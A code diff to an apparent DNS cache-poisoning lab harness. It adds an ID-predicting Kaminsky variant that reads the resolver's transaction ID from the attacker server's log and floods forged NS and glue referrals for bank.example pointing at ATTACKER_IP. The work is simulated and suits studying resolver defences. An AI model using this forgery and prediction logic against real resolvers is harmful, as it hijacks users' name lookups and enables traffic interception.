@@ -3,10 +3,12 @@
 Owns: the Kaminsky attack in both variants — (a) forged referral: NS + glue for the whole
 victim zone pointing at the attacker's server; (b) forged answer carrying an in-bailiwick
 override (the victim zone's NS set and www's address in authority/additional) — and the
-classic pre-2008 race on one name (limited by the real answer's TTL once it is cached).
+classic pre-2008 race on one name (limited by the real answer's TTL once it is cached),
+and the ID-predicting variant (a window of IDs after one it saw at its own server).
 Each attempt triggers a lookup and floods one race window of guesses; the trial ends at
 the first success or when the budget is spent. What the attacker may know: the victim
-zone's public servers, the resolver's port pool (worst case), the names it triggered.
+zone's public servers, the resolver's port pool (worst case), the names it triggered,
+and what its own servers receive.
 Must never: read the resolver's state to choose guesses (the harness only reads it to
 decide whether the attack has succeeded, as the attacker could by asking).
 """
@@ -15,6 +17,8 @@ from __future__ import annotations
 
 import dataclasses
 import enum
+import io
+import json
 import random
 import time
 from dataclasses import dataclass, field
@@ -37,7 +41,7 @@ from poisonproof.lab.arena import (
     ZoneFiles,
     build_arena,
 )
-from poisonproof.lab.flood import Flood, GuessSpace
+from poisonproof.lab.flood import ID_SPACE, Flood, GuessSpace
 from poisonproof.lab.guesses import GuessSequence
 from poisonproof.net.base import Address
 from poisonproof.net.sim import Simulation
@@ -66,6 +70,18 @@ class AttackName(enum.Enum):
     BIRTHDAY = "birthday"
     """Kaminsky's referral, triggered by many identical queries at once: without query
     merging each becomes its own upstream query, and any of them can be matched."""
+    PREDICT = "predict"
+    """Kaminsky's referral with the transaction ID predicted, as against resolvers that
+    counted their IDs up (BIND 4/8): each attempt first asks the resolver for a random name
+    in the attacker's own zone and reads, from its own server's query log, the ID that
+    query carried; then it triggers the victim lookup at once and guesses only the
+    `PREDICT_WINDOW` IDs after the one it saw. A sequential ID falls to a few hundred
+    packets; a random one is in the window one time in 65,536 / `PREDICT_WINDOW`."""
+
+
+PREDICT_WINDOW = 64
+"""IDs the predicting attacker tries after the one it saw (other queries the resolver
+sends in between move its counter on)."""
 
 
 @dataclass(frozen=True)
@@ -106,7 +122,7 @@ def forger(attack: AttackName, qname: dns.name.Name) -> object:
     query = dns.message.make_query(qname, "A")
     reply = dns.message.make_response(query)
     reply.id = 0
-    if attack in (AttackName.KAMINSKY, AttackName.BIRTHDAY, AttackName.MAIL):
+    if attack in (AttackName.KAMINSKY, AttackName.BIRTHDAY, AttackName.MAIL, AttackName.PREDICT):
         reply.flags &= ~dns.flags.AA
         reply.authority = [dns.rrset.from_text(VICTIM, 86400, "IN", "NS", ATTACKER_NS.to_text())]
         reply.additional = [dns.rrset.from_text(ATTACKER_NS, 86400, "IN", "A", ATTACKER_IP)]
@@ -149,6 +165,29 @@ async def _trigger_mail(arena: Arena, index: int) -> None:
     # resolver answers the mail service, which asks for the exchanger's address: two hops
     # at the client latency; flooding from then on covers the race window
     await arena.sim_sleep(max(0.0, 2 * arena.params.client_latency - step))
+
+
+async def _observe_id(arena: Arena, rng: random.Random) -> int | None:
+    """Ask the resolver for a random name in the attacker's zone and return the ID of the
+    query the attacker's server gets for it (from that server's query log; None if no
+    query came within 2 s)."""
+    server = arena.attacker_server
+    assert server is not None
+    log = io.StringIO()
+    server.query_log = log
+    try:
+        arena.send_query(f"p{rng.getrandbits(40):010x}.attacker.example.")
+        for _ in range(20000):
+            await arena.sim_sleep(0.0001)
+            if log.getvalue():
+                break
+    finally:
+        server.query_log = None
+    for line in log.getvalue().splitlines():
+        record = json.loads(line)
+        if isinstance(record.get("id"), int):
+            return int(record["id"])
+    return None
 
 
 def poisoned(arena: Arena) -> bool:
@@ -234,6 +273,8 @@ async def run_attack(
     space = guess_space(arena, attack)
     window = arena.params.window
     guesses = max(1, int(params.rate * window))
+    if attack is AttackName.PREDICT:
+        await _observe_id(arena, rng)  # before the clock: its zone's delegation is cached
     started = sim.loop.time()
     packets = 0
     attempt = 0
@@ -252,11 +293,18 @@ async def run_attack(
             qname = dns.name.from_text(f"x{attempt - 1:05d}.bank.example.")
         else:
             qname = dns.name.from_text(f"x{rng.getrandbits(40):010x}.bank.example.")
-        sequence = GuessSequence.random(space.size, rng)
+        window_space = space
+        if attack is AttackName.PREDICT:
+            seen = await _observe_id(arena, rng)
+            if seen is not None:
+                window_space = dataclasses.replace(
+                    space, id_base=(seen + 1) % ID_SPACE, id_count=PREDICT_WINDOW
+                )
+        sequence = GuessSequence.random(window_space.size, rng)
         flood = Flood(
             net,
             RESOLVER_IP,
-            space,
+            window_space,
             sequence,
             forger(attack, qname),  # type: ignore[arg-type]
             origin=ATTACKER_IP,
